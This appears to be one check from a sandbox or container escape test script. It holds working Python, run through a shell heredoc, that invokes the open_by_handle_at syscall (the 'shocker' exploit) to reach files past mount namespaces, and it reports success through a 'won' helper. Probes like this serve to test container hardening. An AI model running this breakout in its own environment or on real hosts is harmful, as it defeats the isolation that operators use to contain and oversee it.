# Open files by their handle, past every mount namespace (the "shocker" exploit).
python3 - <<'P' && won "opened by handle"
import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
nr = dict(x86_64=304, aarch64=265, ppc64le=346, s390x=336)[os.uname().machine]
got = -1
for where in ("/usr", "/build", "/"):
    fd = os.open(where, os.O_RDONLY)
    for inode in (2, 128, 64):
        got = max(got, libc.syscall(nr, fd, ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, inode)), os.O_RDONLY))
print(got, os.strerror(ctypes.get_errno()))
raise SystemExit(0 if got >= 0 else 1)
P
